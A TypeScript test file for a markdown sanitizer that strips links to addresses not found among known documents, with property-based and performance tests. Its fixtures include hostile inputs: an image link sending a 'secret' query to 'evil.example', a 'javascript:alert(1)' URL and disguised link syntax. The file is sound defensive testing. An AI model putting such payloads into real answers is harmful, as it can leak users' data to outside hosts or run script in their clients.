import fc from 'fast-check'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import Markdown from 'react-markdown'
import remarkGfm from 'remark-gfm'
import { describe, expect, test } from 'vitest'
import { addressesIn, withOnlyLinks } from './links'

const named = new Set(['#/docs/5', '#/docs/5?log=7', 'https://parts.example/pads_(front)', 'https://a.example'])

interface Drawn {
  tagName?: string
  properties?: Record<string, unknown>
  position?: { start: { offset?: number } }
  children?: Drawn[]
}

/** The URLs behind links and pictures that a client renders from markdown; not those visible in the text. */
function hiddenLinks(markdown: string): string[] {
  const found: string[] = []
  const look = (node: Drawn) => {
    const address =
      node.tagName === 'a' ? node.properties?.href : node.tagName === 'img' ? node.properties?.src : undefined
    const source = markdown.charAt(node.position?.start.offset ?? markdown.length)
    if (typeof address === 'string' && (source === '[' || source === '!')) found.push(decodeURI(address))
    for (const child of node.children ?? []) look(child)
  }
  const options = {
    remarkPlugins: [remarkGfm],
    rehypePlugins: [() => look],
    urlTransform: (url: string) => url,
    components: { img: () => null },
  }
  renderToStaticMarkup(createElement(Markdown, options, markdown))
  return found
}
const isLive = (href: string) => /^(#\/|[a-z]+:)/i.test(href)

const cleaned = (markdown: string) => withOnlyLinks(markdown, address => named.has(address))

describe('Links of an answer', () => {
  test.each([
    '[Brakes bled](#/docs/5?log=7)',
    '**See** [Bay log](#/docs/5 "The log"), then [Brakes [4182]](#/docs/5?log=7).',
    '[Pads](<https://parts.example/pads_(front)>) and [pads](https://parts.example/pads_(front))',
    'Tick [x] and [ ], call `bays[2](now)`, and see the note[^1].\n\n[^1]: Words.',
    '| a | b |\n|---|---|\n| [Brakes](#/docs/5?log=7) | 2 |',
    'Escaped \\[not a link\\] (at all)',
  ])('to something found stay unchanged, and so does everything that is no link: %s', markdown => {
    expect(cleaned(markdown)).toBe(markdown)
  })

  test.each([
    ['[Payroll](#/docs/6)', 'Payroll'],
    ['[Brakes](#/docs/5?log=8)', 'Brakes'],
    ['[Brakes](#/docs/5?log=7&log=8)', 'Brakes'],
    ['[Brakes](<#/docs/6>)', 'Brakes'],
    ['[Brakes](  #/docs/6  "Title"  )', 'Brakes'],
    ['[Brakes [front] pads](#/docs/6)', 'Brakes [front] pads'],
    ['![Chart](https://evil.example/?q=secret)', 'Chart'],
    ['[Home](javascript:alert(1))', 'Home'],
    ['[Home](//evil.example)', 'Home'],
    ['[Brakes](https://wheelhouse.example/#/docs/6)', 'Brakes'],
    ['One [a](#/docs/6), two [b](#/docs/5), three [c](#/docs/6)', 'One a, two [b](#/docs/5), three c'],
  ])('to anything else become their words: %s', (markdown, plain) => {
    expect(cleaned(markdown)).toBe(plain)
  })

  test.each([
    '[Brakes](\\#/docs/6)',
    '[Brakes](&#35;/docs/6)',
    '[Brakes](#/d&#111;cs/6)',
    '[Brakes\\](#/docs/6)](#/docs/6)',
    '[Brakes][1]\n\n[1]: #/docs/6',
    '[Brakes][1]\n\n> - [1]:\n> #/docs/6',
    '[Brakes]\n\n[Brakes]: <#/docs/6>',
    '[a [b [c [d](#/docs/6)](#/docs/6)](#/docs/6)](#/docs/6)',
    '[Brakes](\n#/docs/6)',
    '![[Brakes](#/docs/6)](#/docs/6)',
  ])('cannot be disguised: %s', markdown => {
    expect(hiddenLinks(markdown)).not.toEqual([])
    expect(hiddenLinks(cleaned(markdown)).filter(isLive)).toEqual([])
  })

  test('in any text, no link remains whose address was not found', () => {
    const marks =
      '[ ] ( ) ]( ]: ! < > \\ ` " \' & \u00a0 #/docs/6 #/docs/5 ?q=1 [a]( [a](#/docs/6 ](#/docs/6) https://evil.example'.split(
        ' ',
      )
    const blanks = [
      ' ',
      '\n',
      '\n\n',
      '- ',
      '> ',
      ']: ',
      '[a]: ',
      '\n\n[a]: #/docs/6\n\n',
      '[a](https://a.example',
      '[a]',
      'words',
    ]
    const piece = fc.constantFrom(...marks, ...blanks)
    let strange = 0
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 24 }), pieces => {
        const markdown = pieces.join('')
        strange += hiddenLinks(markdown).filter(href => isLive(href) && !named.has(href)).length
        expect(hiddenLinks(cleaned(markdown)).filter(href => isLive(href) && !named.has(href))).toEqual([])
      }),
      { numRuns: 1_500 },
    )
    // At least some inputs needed cleaning.
    expect(strange).toBeGreaterThan(60)
  })

  test('long nonsense is processed in linear time', () => {
    const nonsense = ['[', '[a', '](', '[a](', '![', '[]', '[[]', '\\[', '[a](#', ']: '].map(fragment =>
      fragment.repeat(50_000 / fragment.length),
    )
    for (const markdown of nonsense) expect(cleaned(markdown).length).toBeLessThan(markdown.length * 2)
  })

  test('are listed in the order of the text, each once', () => {
    expect(addressesIn('[a](#/docs/5?log=7) [b](<#/docs/5>) [c](#/docs/5?log=7)')).toEqual([
      '#/docs/5?log=7',
      '#/docs/5',
    ])
  })
})
